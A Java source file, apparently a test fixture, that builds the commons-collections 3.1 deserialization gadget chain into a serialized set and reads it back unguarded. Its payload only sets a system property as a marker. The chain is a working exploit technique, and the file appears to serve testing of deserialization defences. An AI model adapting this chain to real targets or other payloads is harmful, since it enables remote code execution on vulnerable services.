package dev.rmap.collections;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.UncheckedIOException;
import java.lang.reflect.Field;
import java.util.HashMap;
import java.util.HashSet;
import java.util.Map;
import java.util.Set;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;

/**
 * The best-known chain of all: a set whose element, when it is asked for its hash, has a map of commons-collections 3.1 call
 * a method that the stream names. Here that sets a system property.
 */
public final class GadgetChain {

    private static final String PROPERTY = "rmap.test.gadget";

    private GadgetChain() {}

    /** The stream. */
    public static byte[] bytes() {
        Transformer harmless = new ChainedTransformer(new Transformer[] {new ConstantTransformer(1)});
        Transformer harmful = new ChainedTransformer(new Transformer[] {
            new ConstantTransformer(System.class),
            new InvokerTransformer("getMethod", new Class<?>[] {String.class, Class[].class}, new Object[] {
                "setProperty", new Class<?>[] {String.class, String.class}
            }),
            new InvokerTransformer("invoke", new Class<?>[] {Object.class, Object[].class}, new Object[] {
                null, new Object[] {PROPERTY, "ran"}
            })
        });
        Map<?, ?> lazy = LazyMap.decorate(new HashMap<>(), harmless);
        Set<Object> set = new HashSet<>(Set.of(new TiedMapEntry(lazy, "key")));
        lazy.clear();
        try {
            Field factory = LazyMap.class.getDeclaredField("factory");
            factory.setAccessible(true);
            factory.set(lazy, harmful);
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
                out.writeObject(set);
            }
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (ReflectiveOperationException e) {
            throw new IllegalStateException(e);
        }
    }

    /** Reads it as somebody does who does not look. */
    public static void readUnguarded(byte[] bytes) {
        // What the stream ends in does not matter: its code has run by then.
        try (ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(bytes))) {
            in.readObject();
        } catch (IOException | ClassNotFoundException | RuntimeException afterwards) {
            if (!hasRun()) {
                throw new IllegalStateException(afterwards);
            }
        }
    }

    /** Whether its code has run; forgets it. */
    public static boolean hasRun() {
        return System.clearProperty(PROPERTY) != null;
    }
}
